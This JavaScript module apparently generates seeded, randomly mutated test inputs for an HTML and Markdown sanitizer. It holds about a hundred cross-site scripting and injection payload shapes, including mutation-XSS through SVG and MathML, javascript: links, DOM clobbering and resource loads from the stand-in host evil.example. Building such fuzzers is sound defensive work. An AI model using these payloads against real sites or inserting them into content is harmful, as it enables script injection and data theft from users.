// Topics that want to run something: shapes of attacks, changed at random and mixed with Markdown. The same seed gives the same.
//
// Whatever runs calls `globalThis.pwned(number)`, opens a dialog, or asks for an address at `evil.example`.

const RUN = 'pwned(N)';

const SHAPES = [
  `<script>${RUN}</script>`, `<script src=https://evil.example/N.js></script>`, `<SCRIPT\n>${RUN}</SCRIPT\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror='${RUN}'`, `<img/src=x/onerror=${RUN}>`, `<img src=https://evil.example/N.png>`, `<img srcset="https://evil.example/N.png 1x">`,
  `<image src=x onerror=${RUN}>`, `<picture><source srcset=https://evil.example/N.png><img></picture>`, `<img src=x:x onerror\n=\n${RUN}>`,
  `<svg onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${RUN}"><rect width=900 height=900 /></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x">`, `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`, `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`, `<svg><set attributeName=onmouseover to=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<math href="javascript:${RUN}">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<title><img src=x onerror=${RUN}></title>`, `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`, `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`, `<template><script>${RUN}</script></template>`, `<plaintext><img src=x onerror=${RUN}>`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe>`, `<iframe src=https://evil.example/N></iframe>`, `<object data="javascript:${RUN}"></object>`, `<embed src="https://evil.example/N">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/N">`, `<base href=https://evil.example/N/>`, `<link rel=stylesheet href=https://evil.example/N.css>`, `<link rel=prefetch href=https://evil.example/N>`,
  `<style>@import 'https://evil.example/N.css';</style>`, `<p style="background:url(https://evil.example/N)">x</p>`, `<div style=width:expression(${RUN})>x</div>`, `<table background=https://evil.example/N><tr><td>x</table>`,
  `<video src=https://evil.example/N onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<video poster=https://evil.example/N>`,
  `<body onload=${RUN}>`, `<details open ontoggle=${RUN}><summary>x</summary></details>`, `<input autofocus onfocus=${RUN}>`, `<button autofocus onfocus=${RUN}>x</button>`, `<p tabindex=0 autofocus onfocus=${RUN}>x</p>`, `<marquee onstart=${RUN}>x</marquee>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`, `<form id=f></form><button form=f formaction="javascript:${RUN}">x</button>`, `<select autofocus onfocus=${RUN}><option>x</select>`, `<isindex action=javascript:${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`, `<a href="java&#10;script:${RUN}">x</a>`, `<a href=" &#14; javascript:${RUN}">x</a>`, `<a href="JaVaScRiPt&colon;${RUN}">x</a>`, `<a href="data:text/html,<script>opener.${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a>`, `<a ping=https://evil.example/N href="#">x</a>`, `<area href="javascript:${RUN}">`, `[x](javascript:${RUN})`, `[x](<java\tscript:${RUN}>)`, `[x]( &#x6A;avascript&#58;${RUN})`, `![x](javascript:${RUN})`, `![x](https://evil.example/N.png)`,
  `[x]: javascript:${RUN}\n\n[x]`, `<javascript:${RUN}>`, `![<img src=x onerror=${RUN}>](y.png "<script>${RUN}</script>")`, `[x](y "\\"><img src=x onerror=${RUN}>")`, `# <img src=x onerror=${RUN}>`, `| <script>${RUN}</script> |\n|---|\n| <svg/onload=${RUN}> |`,
  `> [!NOTE]\n> <img src=x onerror=${RUN}>`, `::: zone pivot="'><img src=x onerror=${RUN}>"\nx\n::: zone-end`, `# [x](#tab/"><img src=x onerror=${RUN}>)`, `:::image source="x" alt-text="'><img src=x onerror=${RUN}>":::`, `> [!VIDEO javascript:${RUN}]`, `> [!div class="x' onclick='${RUN}"]\n> x`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``, `<!--><img src=x onerror=${RUN}>-->`, `<!-- --!><img src=x onerror=${RUN}> -->`, `<![CDATA[><img src=x onerror=${RUN}>]]>`, `<?xml><img src=x onerror=${RUN}>?>`, `<img src="x\` onerror=${RUN} \`">`,
  `<a name=pwned id=location href=#>x</a>`, `<form name=lifeboat><input name=search></form>`, `<img name=getElementById>`, `<x-y onclick=${RUN} contenteditable>x</x-y>`, `<img src=x onerror=&#112;wned(N)>`, `<p title="x&quot; onmouseover=&quot;${RUN}">x</p>`,
  `<a title="'\"><script>${RUN}</script>" href=x>x</a>`, `<div id="lb-search"><script>${RUN}</script></div>`, `<ruby><rt><img src=x onerror=${RUN}></rt></ruby>`, `<dialog open onclose=${RUN}><form method=dialog><button autofocus>x</button></form></dialog>`,
];

const WHITE = [' ', '\t', '\n', '\f', '/', '\u00a0', '\0', '\u200b', '&#9;', '&NewLine;'];
const TAGS = ['<p>', '</p>', '<b>', '<table><tr><td>', '</td></tr></table>', '<div>', '</div>', '<svg>', '</svg>', '<math>', '</math>', '<style>', '</style>', '<a href=x>', '</a>', '<details>', '<!--', '-->', '<select>', '<noscript>', '</noscript>', '<template>'];

/** @param {number} count @param {number} seed @returns {string[]} as many topics */
export function hostileTopics(count, seed = 20260101) {
  let state = seed;
  const below = (limit) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 4294967296) * limit);
  };
  const pick = (list) => list[below(list.length)];
  const at = (text, put) => { const place = below(text.length + 1); return text.slice(0, place) + put + text.slice(place); };
  const change = (text) => {
    switch (below(9)) {
      case 0: return at(text, pick(WHITE));
      case 1: return text.replace(/[a-z]/g, (letter) => (below(6) ? letter : letter.toUpperCase()));
      case 2: return text.replace(/javascript|onerror|script|src/, (word) => at(word, pick(WHITE)));
      case 3: return pick(TAGS) + text;
      case 4: return text + pick(TAGS);
      case 5: return at(text, pick(TAGS));
      case 6: return text.replace(/[a-z:]/, (letter) => `&#${below(2) ? letter.charCodeAt(0) : `x${letter.charCodeAt(0).toString(16)}`}${below(2) ? ';' : ''}`);
      case 7: { const place = below(text.length); return text.slice(0, place) + text.slice(place + 1); }
      default: return text + pick(SHAPES);
    }
  };
  const around = [(text) => text, (text) => `- ${text}`, (text) => `> ${text}`, (text) => `x ${text} y`, (text) => `1. a\n\n   ${text}`, (text) => `*${text}*`, (text) => `[${text}](x)`, (text) => `| a |\n|---|\n| ${text} |`];
  return Array.from({ length: count }, (_, number) => {
    let text = SHAPES[number % SHAPES.length];
    // The first round is the shapes as they are.
    for (let changes = number < SHAPES.length ? 0 : 1 + below(3); changes > 0; changes -= 1) text = change(text);
    return pick(around)(text).replaceAll('N', String(number));
  });
}
